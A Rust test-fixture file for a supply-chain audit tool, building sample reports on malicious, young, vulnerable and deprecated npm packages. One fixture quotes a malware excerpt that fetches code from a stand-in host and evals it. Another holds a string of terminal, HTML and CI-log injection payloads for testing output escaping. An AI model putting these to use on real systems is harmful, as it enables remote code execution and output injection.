//! Results for the tests of every view: each shows one situation, all are inert.
use cleanbill_model::{
    AdvisoryRef, AuditId, AuditMeta, Confidence, Defect, Evidence, Finding, Integrity, Judgement, Level,
    Purl, Severity, Signal, Stability, Timestamp, Unassessed, Untrusted, Verdict, Version, signal::f32Bits,
};

use crate::report::{
    AuditReport, BroughtIn, ClientSetting, FeedLine, FeedState, InspectReport, LockfileProblem,
    LockfileReport, NotKnown, PackageReport, PinPlace, WaiverNote, WaiverState,
};

const MALICIOUS: AuditMeta = meta(
    "known-malicious",
    "listed as malicious",
    Severity::Critical,
    Level::Block,
    "# known-malicious\n\n<!-- meta: generated -->\n| | |\n|---|---|\n| level | block |\n<!-- /meta -->\n\nA feed lists this release as malware.\n\n## Why\n\nIts code runs on **your** machine; see `npm explain`.\n\n- read the advisory\n- rotate *every* secret\n\n```sh\nnpm explain left\n```\n",
);
const INJECTED: AuditMeta = meta(
    "dependency-injected",
    "a young dependency came in",
    Severity::Critical,
    Level::Block,
    "# dependency-injected\n\nA small release added a dependency of another owner that is hours old.\n",
);
const YOUNG: AuditMeta = meta(
    "release-young",
    "younger than the cooldown",
    Severity::Medium,
    Level::Quarantine,
    "# release-young\n\nMost hijacks are found within days.\n",
);
const VULNERABLE: AuditMeta = meta(
    "known-vulnerable",
    "has a known vulnerability",
    Severity::High,
    Level::Warn,
    "# known-vulnerable\n\nA feed lists a flaw in this release.\n",
);
const DEPRECATED: AuditMeta = meta(
    "deprecated",
    "deprecated by its owner",
    Severity::Low,
    Level::Note,
    "# deprecated\n\nIts owner advises against it.\n",
);

const fn meta(
    id: &'static str,
    title: &'static str,
    severity: Severity,
    level: Level,
    page: &'static str,
) -> AuditMeta {
    AuditMeta {
        id: AuditId(id),
        title,
        severity,
        confidence: Confidence::High,
        level,
        needs: &[],
        since: "0.1.0",
        stability: Stability::Stable,
        taxonomy: &["MET-05"],
        attack: &["T1195.002"],
        page,
    }
}

pub(crate) fn now() -> Timestamp {
    Timestamp::parse("2026-06-17T01:20:00Z").unwrap()
}

fn purl(text: &str) -> Purl {
    Purl::parse(text).unwrap()
}

fn judgement(text: &str, verdict: Verdict, findings: Vec<Finding>) -> Judgement {
    Judgement {
        subject: purl(text),
        integrity: Some(Integrity::parse("sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==").unwrap()),
        as_of: now(),
        verdict,
        until: None,
        findings,
        unassessed: vec![],
        capabilities: vec![],
    }
}

fn finding(signal: Signal) -> Finding {
    let level = signal.level;
    Finding {
        signal,
        level,
        because: None,
        waived: false,
    }
}

fn package(judgement: Judgement, path: &[&str], line: u32) -> PackageReport {
    let name = judgement.subject.name.to_string();
    let version = judgement.subject.version.to_string();
    PackageReport {
        paths: vec![path.iter().map(|step| Untrusted::from(*step)).collect()],
        pins: vec![PinPlace {
            lockfile: "package-lock.json".into(),
            line,
            text: format!("    \"node_modules/{name}\": {{\n      \"version\": \"{version}\",\n").into(),
        }],
        ..PackageReport::alone(judgement)
    }
}

fn base(releases: usize) -> AuditReport {
    AuditReport {
        lockfiles: vec![LockfileReport {
            path: "package-lock.json".into(),
            format: "package-lock".to_owned(),
            version: "3".to_owned(),
            releases,
            entries: releases + 1,
            defects: vec![],
            error: None,
        }],
        feeds: vec![FeedLine {
            name: "osv".to_owned(),
            state: FeedState::Fresh,
            synced: Some(Timestamp::parse("2026-06-17T00:20:00Z").unwrap()),
            malicious: 212_345,
            vulnerable: 9_876,
            problem: None,
        }],
        audits: vec![MALICIOUS, INJECTED, YOUNG, VULNERABLE, DEPRECATED],
        ..AuditReport::new(now(), "0.1.0")
    }
}

pub(crate) fn clean() -> AuditReport {
    let mut report = base(2);
    report.packages = vec![
        package(
            judgement("pkg:npm/left@1.2.2", Verdict::Allow, vec![]),
            &["app", "left@1.2.2"],
            12,
        ),
        package(
            judgement("pkg:npm/%40scope/right@2.0.0", Verdict::Allow, vec![]),
            &["app", "@scope/right@2.0.0"],
            20,
        ),
    ];
    report.packages[0].depends_on = vec!["pkg:npm/%40scope/right@2.0.0".to_owned()];
    report
}

pub(crate) fn blocked_with_chain() -> AuditReport {
    let mut report = base(4);
    let bad = purl("pkg:npm/easy-day-kit@1.11.22");
    let mut signal = Signal::new(&MALICIOUS, &bad, Evidence::note("`MAL-2026-4242` names this very version"))
        .words(
            "`MAL-2026-4242` lists `easy-day-kit@1.11.22` as malware.",
            "Its code runs as soon as it is installed, with everything your account may do.",
            "Remove it, and treat every secret on machines that installed it as read. 1.11.21 is the last good version.",
        )
        .also(
            Evidence::note("the response is written and executed")
                .file("setup.cjs")
                .at(3, 7)
                .decoded("https://files.example/stage2")
                .excerpt("const run = eval(await (await fetch(u)).text());\nmodule.exports = run;"),
        );
    signal.advisory = Some(AdvisoryRef {
        id: "MAL-2026-4242".into(),
        aliases: vec!["GHSA-xxxx-yyyy-zzzz".into()],
        fixed: None,
        score: None,
        malicious: true,
        feed: "osv".to_owned(),
    });
    let host = purl("pkg:npm/%40masts/core@1.4.2");
    let injected = Signal::new(
        &INJECTED,
        &host,
        Evidence::note("`easy-day-kit` is new in 1.4.2; 1.4.1 had no such dependency")
            .file("package.json")
            .at(31, 5),
    )
    .words(
        "A patch release added `easy-day-kit`, which is 19 hours old and of another owner.",
        "This is how hijacked packages carry their load.",
        "Stay on 1.4.1 until someone has looked at it.",
    );
    let clean = judgement("pkg:npm/left@1.2.2", Verdict::Allow, vec![]);
    let mut carried = package(
        judgement(
            "pkg:npm/easy-day-kit@1.11.22",
            Verdict::Block,
            vec![finding(signal)],
        ),
        &["app", "@masts/core@1.4.2", "easy-day-kit@1.11.22"],
        812,
    );
    carried.more_paths = 3;
    let mut carrier = package(
        judgement(
            "pkg:npm/%40masts/core@1.4.2",
            Verdict::Block,
            vec![finding(injected)],
        ),
        &["app", "@masts/core@1.4.2"],
        96,
    );
    carrier.depends_on = vec!["pkg:npm/easy-day-kit@1.11.22".to_owned()];
    let mut waived = finding(
        Signal::new(
            &DEPRECATED,
            &purl("pkg:npm/old@0.1.0"),
            Evidence::note("`deprecated` is set"),
        )
        .words(
            "Its owner says: use `new` instead.",
            "No one mends it.",
            "Move to `new`.",
        ),
    );
    waived.waived = true;
    waived.because = Some("waived until 2026-12-31 by ops: replaced next quarter".into());
    report.packages = vec![
        package(clean, &["app", "left@1.2.2"], 12),
        carried,
        carrier,
        package(
            judgement("pkg:npm/old@0.1.0", Verdict::Allow, vec![waived]),
            &["app", "old@0.1.0"],
            900,
        ),
    ];
    report.waivers = vec![WaiverNote {
        release: "older@1.0.0".into(),
        audit: "deprecated".into(),
        reason: "gone by now".into(),
        owner: "ops".into(),
        state: WaiverState::Expired(Timestamp::parse("2026-06-01").unwrap()),
    }];
    report
}

fn young(text: &str, hours: i64, path: &[&str], line: u32) -> PackageReport {
    let subject = purl(text);
    let published = now().minus(cleanbill_model::Age::hours(hours));
    let signal = Signal::new(
        &YOUNG,
        &subject,
        Evidence::note(format!("published {published}")).file("time"),
    )
    .words(
        format!("It was published {hours} hours ago; the cooldown is 7 days."),
        "Most hijacked releases are found within days.",
        "Keep the version you have, or wait.",
    );
    let mut judged = judgement(text, Verdict::Quarantine, vec![finding(signal)]);
    judged.until = Some(published.plus(cleanbill_model::Age::days(7)));
    package(judged, path, line)
}

pub(crate) fn quarantined() -> AuditReport {
    let mut report = base(2);
    let mut clean = package(
        judgement("pkg:npm/left@1.2.2", Verdict::Allow, vec![]),
        &["app", "left@1.2.2"],
        12,
    );
    clean.dev = true;
    report.packages = vec![
        clean,
        young("pkg:npm/fresh-bread@3.0.1", 5, &["app", "fresh-bread@3.0.1"], 44),
    ];
    report.client_settings = vec![ClientSetting {
        client: "npm".to_owned(),
        setting: "min-release-age".to_owned(),
        value: Some("3".into()),
        origin: Some(".npmrc".into()),
        ours: "7 days".to_owned(),
    }];
    report.not_known = vec![NotKnown {
        what: "who published each release".to_owned(),
        reason: "the registry does not send it".to_owned(),
        count: 2,
    }];
    report.elapsed_millis = Some(38);
    report
}

pub(crate) fn many_alike() -> AuditReport {
    let mut report = base(12);
    report.packages = (0..12)
        .map(|i| {
            let spec = format!("sibling-{i}@2.0.0");
            young(&format!("pkg:npm/{spec}"), i + 1, &["app", &spec], 100)
        })
        .collect();
    report
}

pub(crate) fn vulnerable() -> AuditReport {
    let mut report = base(2);
    let subject = purl("pkg:npm/left-parse@2.3.0");
    let mut signal = Signal::new(
        &VULNERABLE,
        &subject,
        Evidence::note("`GHSA-aaaa-bbbb-cccc` covers 2.0.0 up to 2.4.1"),
    )
    .words(
        "`GHSA-aaaa-bbbb-cccc`: a crafted input takes minutes to parse.",
        "Anyone who can send you text can stop your service.",
        "Move to 2.4.1.",
    );
    signal.advisory = Some(AdvisoryRef {
        id: "GHSA-aaaa-bbbb-cccc".into(),
        aliases: vec!["CVE-2026-0001".into()],
        fixed: Some(Version::parse("2.4.1").unwrap()),
        score: Some(f32Bits::new(7.5)),
        malicious: false,
        feed: "osv".to_owned(),
    });
    let deprecated = Signal::new(
        &DEPRECATED,
        &purl("pkg:npm/old@0.1.0"),
        Evidence::note("`deprecated` is set"),
    )
    .words(
        "Its owner says: use `new` instead.",
        "No one mends it.",
        "Move to `new`.",
    );
    report.packages = vec![
        package(
            judgement("pkg:npm/left-parse@2.3.0", Verdict::Allow, vec![finding(signal)]),
            &["app", "left-parse@2.3.0"],
            51,
        ),
        package(
            judgement("pkg:npm/old@0.1.0", Verdict::Allow, vec![finding(deprecated)]),
            &["app", "old@0.1.0"],
            77,
        ),
    ];
    report
}

pub(crate) fn unassessed() -> AuditReport {
    let mut report = base(1);
    let mut judged = judgement("pkg:npm/private-thing@1.0.0", Verdict::Unassessed, vec![]);
    judged.integrity = None;
    judged.unassessed = vec![Unassessed {
        file: None,
        reason: "the run is offline and nothing is cached".into(),
    }];
    let mut open = package(judged, &["app", "private-thing@1.0.0"], 9);
    open.optional = true;
    report.packages = vec![open];
    report.feeds = vec![FeedLine {
        name: "osv".to_owned(),
        state: FeedState::Missing,
        synced: None,
        malicious: 0,
        vulnerable: 0,
        problem: None,
    }];
    report
}

pub(crate) fn broken_lockfile() -> AuditReport {
    let mut report = base(0);
    report.lockfiles = vec![
        LockfileReport {
            path: "old/bun.lockb".into(),
            format: "bun".to_owned(),
            error: Some(LockfileProblem {
                message: "cannot read lockfile `old/bun.lockb`: it is Bun's binary format".into(),
                hint: Some("convert it with `bun install --save-text-lockfile`".into()),
            }),
            ..LockfileReport::default()
        },
        LockfileReport {
            path: "package-lock.json".into(),
            format: "package-lock".to_owned(),
            version: "3".to_owned(),
            defects: vec![Defect::new(
                "duplicate-key",
                "packages[\"node_modules/left\"]",
                "the key stands there twice",
            )],
            ..LockfileReport::default()
        },
    ];
    report.feeds = vec![];
    report
}

/// A package that speaks to every escaper at once.
pub(crate) fn hostile_with(text: &str) -> AuditReport {
    let mut report = base(1);
    let subject = purl("pkg:npm/left@1.2.3");
    let signal = Signal::new(
        &MALICIOUS,
        &subject,
        Evidence::note(text)
            .file(text)
            .at(1, 2)
            .decoded(text)
            .excerpt(format!("{text}\n{text}")),
    )
    .titled(text)
    .words(text, text, text)
    .also(Evidence::note(text).file(text));
    let mut found = finding(signal);
    found.because = Some(text.into());
    found.signal.advisory = Some(AdvisoryRef {
        id: text.into(),
        aliases: vec![text.into()],
        fixed: None,
        score: Some(f32Bits::new(f32::NAN)),
        malicious: true,
        feed: text.to_owned(),
    });
    let warning = Finding {
        level: Level::Warn,
        ..found.clone()
    };
    let mut judged = judgement("pkg:npm/left@1.2.3", Verdict::Block, vec![found]);
    judged.unassessed = vec![Unassessed {
        file: Some(text.into()),
        reason: text.into(),
    }];
    judged.capabilities = vec![text.to_owned()];
    let mut open = judged.clone();
    open.verdict = Verdict::Unassessed;
    open.findings = vec![warning];
    open.subject = purl("pkg:npm/left@1.2.4");
    for judged in [judged, open] {
        let mut package = package(judged, &["app", text, "left@1.2.3"], 3);
        package.pins = vec![
            PinPlace {
                lockfile: text.into(),
                line: 3,
                text: text.into(),
            },
            PinPlace {
                lockfile: "package-lock.json".into(),
                line: 3,
                text: text.into(),
            },
        ];
        package.depends_on = vec![text.to_owned()];
        report.packages.push(package);
    }
    if let Some(lockfile) = report.lockfiles.first_mut() {
        lockfile.defects = vec![Defect::new("wrong-type", text, text)];
    }
    report.lockfiles.push(LockfileReport {
        path: text.into(),
        format: text.to_owned(),
        version: text.to_owned(),
        error: Some(LockfileProblem {
            message: text.into(),
            hint: Some(text.into()),
        }),
        ..LockfileReport::default()
    });
    report.feeds = vec![FeedLine {
        name: text.to_owned(),
        state: FeedState::Stale,
        synced: Some(now()),
        malicious: 1,
        vulnerable: 1,
        problem: Some(text.into()),
    }];
    report.not_known = vec![NotKnown {
        what: text.to_owned(),
        reason: text.to_owned(),
        count: 1,
    }];
    report.client_settings = vec![ClientSetting {
        client: text.to_owned(),
        setting: text.to_owned(),
        value: Some(text.into()),
        origin: Some(text.into()),
        ours: text.to_owned(),
    }];
    report.waivers = vec![WaiverNote {
        release: text.into(),
        audit: text.into(),
        reason: text.into(),
        owner: text.into(),
        state: WaiverState::Unused,
    }];
    report
}

pub(crate) fn hostile() -> AuditReport {
    hostile_with("\u{1b}[2J\u{202e}evil</script><img src=x>\n::error::pwn,%0A ##[x] [a](b) {0} ' \" ]]>\u{0}")
}

pub(crate) fn inspected_from(report: &AuditReport) -> InspectReport {
    let judged = report
        .packages
        .iter()
        .max_by_key(|p| p.judgement.verdict)
        .unwrap();
    InspectReport {
        judgement: judged.judgement.clone(),
        unassessed: report.unassessed,
        brings_in: vec![BroughtIn {
            spec: "easy-day-kit@1.11.22".into(),
            range: "^1.11.0".into(),
            verdict: Verdict::Block,
            reason: "listed as malicious".into(),
        }],
        rehearsal: Vec::new(),
        not_known: report.not_known.clone(),
        feeds: report.feeds.clone(),
        audits: report.audits.clone(),
        tool_version: report.tool_version.clone(),
    }
}

pub(crate) fn inspected() -> InspectReport {
    inspected_from(&blocked_with_chain())
}

/// A clean tree of some size, for measuring.
pub(crate) fn large(releases: usize) -> AuditReport {
    let mut report = base(releases);
    report.packages = (0..releases)
        .map(|i| {
            let spec = format!("package-{i}@1.0.{i}");
            package(
                judgement(&format!("pkg:npm/{spec}"), Verdict::Allow, vec![]),
                &["app", &spec],
                1,
            )
        })
        .collect();
    report
}

/// Every situation with its name.
pub(crate) fn named() -> Vec<(&'static str, AuditReport)> {
    vec![
        ("clean", clean()),
        ("blocked-with-chain", blocked_with_chain()),
        ("quarantined", quarantined()),
        ("many-alike", many_alike()),
        ("vulnerable", vulnerable()),
        ("unassessed", unassessed()),
        ("broken-lockfile", broken_lockfile()),
        ("hostile", hostile()),
    ]
}

pub(crate) fn all() -> Vec<AuditReport> {
    named().into_iter().map(|(_, report)| report).collect()
}
